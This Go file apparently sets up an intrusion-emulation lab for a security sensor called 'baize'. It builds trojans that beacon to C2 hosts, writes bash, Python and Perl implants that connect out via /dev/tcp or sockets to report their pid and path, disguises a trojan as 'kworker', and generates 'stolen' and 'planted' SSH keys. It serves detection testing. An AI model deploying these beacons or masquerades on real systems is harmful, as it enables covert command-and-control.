package stage

import (
	"context"
	"crypto/rand"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
)

// Kit is what every stage needs, built once.
type Kit struct {
	// Dir holds everything, Agent is the program of the sensor.
	Dir, Agent string

	outside, victim, java, downloads, files string
}

// Build builds programs, implants and keys below a directory. agent is the
// program to record with; "" builds that too.
func Build(ctx context.Context, dir, agent string) (*Kit, error) {
	k := &Kit{
		Dir: dir, Agent: agent, outside: filepath.Join(dir, "outside"), victim: filepath.Join(dir, "init"),
		downloads: filepath.Join(dir, "downloads"), files: filepath.Join(dir, "files"),
	}
	for _, sub := range []string{"downloads", "files/shop", "files/drop", "keys"} {
		if err := os.MkdirAll(filepath.Join(dir, sub), 0o755); err != nil {
			return nil, err
		}
	}
	var err error
	if k.java, err = javaProgram(); err != nil {
		return nil, err
	}
	for _, step := range []func(context.Context) error{k.programs, k.implants, k.secrets} {
		if err := step(ctx); err != nil {
			return nil, err
		}
	}
	return k, nil
}

func javaProgram() (string, error) {
	name, err := exec.LookPath("java")
	if err != nil {
		return "", fmt.Errorf("the web service needs a JDK: %w", err)
	}
	return filepath.EvalSymlinks(name)
}

func (k *Kit) programs(ctx context.Context) error {
	if k.Agent == "" {
		k.Agent = filepath.Join(k.Dir, "baize-agent")
		if err := goBuild(ctx, k.Agent, "baize/cmd/baize-agent"); err != nil {
			return err
		}
	}
	if err := goBuild(ctx, k.outside, "baize/test/lab/outside"); err != nil {
		return err
	}
	if err := goBuild(ctx, k.victim, "baize/test/intrusions/victim"); err != nil {
		return err
	}
	source, err := exec.CommandContext(ctx, "go", "list", "-f", "{{.Dir}}", "baize/test/lab").Output()
	if err != nil {
		return fmt.Errorf("find the laboratory's sources (run inside the repository): %w", err)
	}
	return run(exec.CommandContext(ctx, "javac", "-d", filepath.Join(k.files, "shop"), filepath.Join(strings.TrimSpace(string(source)), "service", "LookupService.java")))
}

func goBuild(ctx context.Context, output string, args ...string) error {
	command := exec.CommandContext(ctx, "go", append([]string{"build", "-trimpath", "-o", output}, args...)...)
	command.Env = append(os.Environ(), "CGO_ENABLED=0")
	return run(command)
}

// implants are what the drop servers have.
func (k *Kit) implants(ctx context.Context) error {
	for name, c2 := range map[string]string{"t": C2, "u": OtherC2} {
		if err := k.Trojan(ctx, name, c2, 2); err != nil {
			return err
		}
	}
	script := func(interpreter, text string) string {
		return "#!" + interpreter + "\n" + text + "# " + rand.Text() + "\n"
	}
	files := map[string]string{
		"s.sh": script("/bin/bash", Hello("/tmp/s.sh")),
		"p.py": script("/usr/bin/python3", pythonHello("/tmp/p.py")),
		"q.pl": script("/usr/bin/perl", perlHello("/tmp/q.pl")),
	}
	for name, text := range files {
		if err := os.WriteFile(filepath.Join(k.downloads, name), []byte(text), 0o644); err != nil {
			return err
		}
	}
	return run(exec.CommandContext(ctx, "sh", "-c", "cd "+k.downloads+` && cp /usr/bin/perl perl && date +%s%N >> perl && cp /usr/bin/id release && date +%s%N >> release &&
		cp t kworker && chmod 755 kworker && tar czf a.tgz kworker && rm kworker && base64 -w0 s.sh > s.b64 && cp t files.bin && chmod 644 t u files.bin && cp t ../files/drop/upload && chmod 644 ../files/drop/upload`))
}

// Trojan builds one that calls a C2 so many times, once a second, to be downloaded
// under a name.
func (k *Kit) Trojan(ctx context.Context, name, c2 string, beacons int) error {
	flags := fmt.Sprintf("-s -w -X main.c2=%s -X main.beacons=%d", c2, beacons)
	return goBuild(ctx, filepath.Join(k.downloads, name), "-ldflags", flags, "baize/test/lab/trojan")
}

// Variant makes a download with the behaviour of another one and a content that no
// other has.
func (k *Kit) Variant(name, of string) error {
	text, err := os.ReadFile(filepath.Join(k.downloads, of))
	if err != nil {
		return err
	}
	return os.WriteFile(filepath.Join(k.downloads, name), append(text, rand.Text()...), 0o755)
}

// Hello is what a shell script says to its C2: who it is, by what path.
func Hello(path string) string {
	host, port, _ := strings.Cut(C2, ":")
	return fmt.Sprintf("exec 3<>/dev/tcp/%s/%s; echo '{\"pid\":'$$',\"path\":\"%s\"}' >&3; sleep 1; exec 3>&-\n", host, port, path)
}

func pythonHello(path string) string {
	host, port, _ := strings.Cut(C2, ":")
	return fmt.Sprintf("import socket,os,time\nc=socket.create_connection(('%s',%s))\nc.sendall(b'{\"pid\":%%d,\"path\":\"%s\"}' %% os.getpid())\ntime.sleep(1)\n", host, port, path)
}

func perlHello(path string) string {
	return fmt.Sprintf("use IO::Socket::INET;my $c=IO::Socket::INET->new('%s') or die;print $c \"{\\\"pid\\\":$$,\\\"path\\\":\\\"%s\\\"}\";$c->flush;sleep 1;\n", C2, path)
}

// secrets are the keys of hosts and people.
func (k *Kit) secrets(ctx context.Context) error {
	dir := filepath.Join(k.Dir, "keys")
	for _, name := range []string{"host", "admin", "stolen", "planted", "database", "deploy"} {
		if err := os.RemoveAll(filepath.Join(dir, name)); err != nil {
			return err
		}
		if err := run(exec.CommandContext(ctx, "ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", filepath.Join(dir, name))); err != nil {
			return err
		}
	}
	return run(exec.CommandContext(ctx, "sh", "-c", "cd "+dir+" && cat admin.pub stolen.pub database.pub deploy.pub > allowed"))
}

// Key is the file of a private key.
func (k *Kit) Key(name string) string { return filepath.Join(k.Dir, "keys", name) }

// Public is a public key as authorized_keys has it.
func (k *Kit) Public(name string) string {
	text, err := os.ReadFile(k.Key(name) + ".pub")
	if err != nil {
		return ""
	}
	return strings.TrimSpace(string(text))
}
